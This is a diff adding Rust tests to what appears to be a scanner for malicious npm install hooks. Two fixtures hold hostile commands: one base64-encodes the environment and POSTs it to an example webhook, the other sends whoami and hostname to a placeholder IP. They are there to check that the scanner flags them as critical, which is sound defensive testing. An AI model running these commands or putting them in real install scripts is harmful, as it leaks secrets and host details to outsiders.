@@ -659,3 +659,55 @@ fn a_dropper_command_persisted_at_install_is_critical() {
         Some(Severity::Critical)
     );
 }
+
+// The install commands of package.json are a script too.
+
+#[test]
+fn an_install_command_that_sends_the_environment_is_critical_exfiltration() {
+    let fixture = hooked(
+        "env | base64 -w0 | curl -s -X POST -d @- https://hooks.slack.example/services/T0/B0/x",
+        &[],
+    );
+    let findings = fixture.analyse_code().findings;
+    let exfiltration = findings
+        .iter()
+        .find(|f| f.rule == "DSCA801")
+        .expect("DSCA801 on the install command");
+    assert_eq!(exfiltration.severity, Severity::Critical, "{findings:#?}");
+    assert!(
+        exfiltration.message.contains("package.json"),
+        "{findings:#?}"
+    );
+    // The command's shape is DSCA102's: not reported a second time as DSCA809.
+    assert!(
+        !findings.iter().any(|f| f.rule == "DSCA809"),
+        "{findings:#?}"
+    );
+}
+
+#[test]
+fn an_install_command_that_fingerprints_the_host_is_critical() {
+    let fixture = hooked(
+        "curl -s \"http://203.0.113.54:8080/c?u=$(whoami)&h=$(hostname)\"",
+        &[],
+    );
+    assert_eq!(highest(&fixture), Some(Severity::Critical));
+}
+
+#[test]
+fn honest_install_commands_give_no_code_finding() {
+    for hook in [
+        "node-gyp rebuild",
+        "prebuild-install || node-gyp rebuild",
+        "node install.js",
+        "husky install",
+        "echo \"Thanks for installing! Support us at https://opencollective.example/x\"",
+    ] {
+        let fixture = hooked(hook, &[("install.js", "console.log('ok');\n")]);
+        let findings = fixture.analyse_code().findings;
+        assert!(
+            findings.iter().all(|f| f.severity <= Severity::Low),
+            "{hook}: {findings:#?}"
+        );
+    }
+}
